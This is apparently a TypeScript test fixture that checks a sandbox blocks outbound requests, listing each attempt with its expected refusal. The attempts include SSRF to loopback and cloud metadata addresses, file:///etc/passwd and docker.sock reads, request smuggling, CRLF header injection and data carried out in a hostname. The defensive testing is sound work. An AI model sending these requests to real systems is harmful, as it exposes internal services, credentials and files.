/** Attempts on the way out: where requests want to go, what they carry, and whose calls they name. */

export type EgressAttempt = {
  intent: string
  /** Body of an async function with `input` (`api`, `elsewhere`, `gateway`, `port`), `ctx` and `ask`. */
  code: string
  /** What comes of it, in order: the status of an answer, or the code of a refusal. */
  seen: readonly (number | string)[]
}

/** `ask` gives the status of an answer or the code of a refusal; `own` outlives a call. */
export const askPrelude = `
const [own] = [URL]
const ask = async (url, init) => {
  try { const answer = await ctx.fetch(url, init); return answer.status } catch (error) { return error.code ?? error.name }
}
`

/** Origins that the author of the hostile server asks to be allowed; the operator allowed none of them. */
export const askedOrigins = (port: number): string[] => [
  `http://127.0.0.1:${port}`,
  `http://localhost:${port}`,
  `http://[::1]:${port}`,
  'http://169.254.169.254',
  'http://10.0.0.1',
  'http://192.168.1.1:8080',
  'https://[fd00::1]',
  'https://no-such-name.invalid',
]

export const egress: readonly EgressAttempt[] = [
  {
    intent: 'ask the platform itself, by each of its addresses',
    code: "return [await ask('http://127.0.0.1:' + input.port + '/'), await ask('http://localhost:' + input.port + '/'), await ask('http://[::1]:' + input.port + '/')]",
    seen: ['own_listener', 'own_listener', 'own_listener'],
  },
  {
    intent: 'ask the platform by addresses that are written in other ways',
    code: "return Promise.all(['2130706433', '0x7f.1', '0177.0.0.1', '127.1'].map((host) => ask('http://' + host + ':' + input.port + '/')))",
    seen: ['own_listener', 'own_listener', 'own_listener', 'own_listener'],
  },
  {
    intent: 'read the metadata of the cloud',
    code: "return [await ask('http://169.254.169.254/latest/meta-data/'), await ask('http://169.254.169.254/')]",
    seen: ['private_address', 'private_address'],
  },
  {
    intent: 'look around in the private network',
    code: "return [await ask('http://10.0.0.1/'), await ask('http://192.168.1.1:8080/'), await ask('https://[fd00::1]/')]",
    seen: ['private_address', 'private_address', 'private_address'],
  },
  {
    intent: 'ask an origin that was never confirmed',
    code: "return [await ask('https://example.com/'), await ask('http://127.0.0.1:22/'), await ask('http://[::ffff:127.0.0.1]:22/'), await ask('http://0.0.0.0:22/')]",
    seen: ['origin_not_allowed', 'origin_not_allowed', 'origin_not_allowed', 'origin_not_allowed'],
  },
  {
    intent: 'bend the name of a confirmed origin',
    code: `const api = new URL(input.api)
      return [await ask('http://user:password@' + api.host + '/'), await ask('http://' + api.host + '@example.com/'), await ask('http://' + api.hostname + '.example.com:' + api.port + '/'), await ask('https://' + api.host + '/'), await ask('http://' + api.hostname + ':1/')]`,
    seen: [
      'userinfo_refused',
      'origin_not_allowed',
      'origin_not_allowed',
      'origin_not_allowed',
      'origin_not_allowed',
    ],
  },
  {
    intent: 'use schemes that read files',
    code: "return [await ask('file:///etc/passwd'), await ask('data:text/plain,x'), await ask('unix:///var/run/docker.sock'), await ask('ftp://127.0.0.1/')]",
    seen: ['origin_not_allowed', 'origin_not_allowed', 'origin_not_allowed', 'origin_not_allowed'],
  },
  {
    intent: 'be led on by a redirect',
    code: `const first = await ctx.fetch(input.elsewhere + '/redirect')
      return [first.status, await ask(first.headers.get('location'))]`,
    seen: [302, 'origin_not_allowed'],
  },
  {
    intent: 'speak as another host',
    code: "return [await ask(input.elsewhere + '/', { headers: { host: 'internal.example.com' } }), await ask(input.elsewhere + '/', { headers: { 'x-forwarded-host': 'a' } })]",
    seen: [200, 200],
  },
  {
    intent: 'smuggle a second request behind the first',
    code: `const second = 'GET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'
      return [await ask(input.elsewhere + '/', { method: 'POST', headers: { 'transfer-encoding': 'chunked' }, body: '0\\r\\n\\r\\n' + second }),
        await ask(input.elsewhere + '/', { method: 'POST', headers: { 'content-length': '0' }, body: second }), await ask(input.elsewhere + '/x HTTP/1.1%0d%0aHost: y', {})]`,
    seen: [200, 200, 200],
  },
  {
    intent: 'have the connection upgraded or tunnelled',
    code: "return [await ask(input.elsewhere + '/', { headers: { upgrade: 'websocket', connection: 'upgrade' } }), await ask(input.elsewhere + '/', { headers: { 'proxy-authorization': 'Basic x' } })]",
    seen: ['upgrade_refused', 200],
  },
  {
    intent: 'carry data out in the name of a host',
    code: "return [await ask('https://no-such-name.invalid/'), await ask('https://c2VjcmV0.no-such-name.invalid/')]",
    seen: ['host_refused', 'origin_not_allowed'],
  },
  {
    intent: 'use methods that proxies understand',
    code: "return Promise.all(['CONNECT', 'TRACE', 'TRACK', 'PURGE'].map((method) => ask(input.elsewhere + '/', { method })))",
    // Bun knows no TRACK and asks by GET: what arrives is looked at by the test.
    seen: ['method_refused', 'method_refused', 200, 'method_refused'],
  },
  {
    intent: 'end a header early and begin another',
    code: "return [await ask(input.elsewhere + '/', { headers: { 'x-a': 'a\\r\\nx-api-key: forged' } }), await ask(input.elsewhere + '/', { headers: { 'x-a\\r\\nx-b': 'b' } })]",
    seen: ['TypeError', 'TypeError'],
  },
  {
    intent: 'keep its way out after it has answered',
    code: `own.late = 'not asked yet'
      setTimeout(async () => { own.late = await ask(input.elsewhere + '/late') }, 200)
      return ['answered']`,
    seen: ['answered'],
  },
  {
    intent: 'see what came of that',
    code: 'await new Promise((resolve) => setTimeout(resolve, 500)); return [own.late]',
    seen: ['no_call_in_flight'],
  },
  {
    intent: 'flood the way out',
    code: `const all = await Promise.all(Array.from({ length: 300 }, () => ask(input.elsewhere + '/flood')))
      return [all.every((each) => each === 200 || each === 'busy') ? 'some are told to wait' : [...new Set(all)].join()]`,
    seen: ['some are told to wait'],
  },
]

/** Paths that must never have been asked for, whatever the sandbox was told. */
export const neverAsked = ['/smuggled', '/late']
